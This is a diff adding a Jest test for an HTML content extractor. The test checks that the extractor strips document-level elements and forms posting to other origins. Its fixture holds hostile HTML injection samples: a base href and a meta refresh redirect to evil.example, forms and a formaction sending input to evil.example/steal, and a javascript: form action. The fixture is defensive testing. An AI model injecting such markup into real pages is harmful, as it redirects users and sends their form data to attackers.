@@ -37,6 +37,24 @@ describe('modal-link', () => {
     expect(content.querySelector('h3')!.id).toBe('fresh');
   });
 
+  it('drops document-level elements and forms that post to another origin; an icon keeps its title', () => {
+    const html = `<div class="node__content">
+      <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+      <link rel="icon" href="https://evil.example/x.png"><title>Owned</title><style>body{}</style>
+      <form id="away" action="https://evil.example/steal"><input name="q"></form>
+      <form id="here" action="/search"><input name="q">
+        <button id="leak" formaction="//evil.example/steal">Go</button><button id="ok">Go</button></form>
+      <form id="js" action="javascript:alert(1)"></form>
+      <svg role="img"><title>Chart</title></svg><p>Kept</p></div>`;
+    const content = extractContent(html, document)!.content;
+    expect(content.querySelector('base, meta, link, style, #away, #leak, #js')).toBeNull();
+    expect([...content.querySelectorAll('title')].map((el) => el.textContent)).toEqual(['Chart']);
+    expect(content.querySelector('#here')).not.toBeNull();
+    expect(content.querySelector('#ok')).not.toBeNull();
+    expect(content.querySelector('svg title')!.textContent).toBe('Chart');
+    expect(content.textContent).toContain('Kept');
+  });
+
   it('finds nothing in a page without node content', () => {
     expect(extractContent('<h1>Not a node</h1><p>x</p>')).toBeNull();
     expect(extractContent('not html at all <<<')).toBeNull();
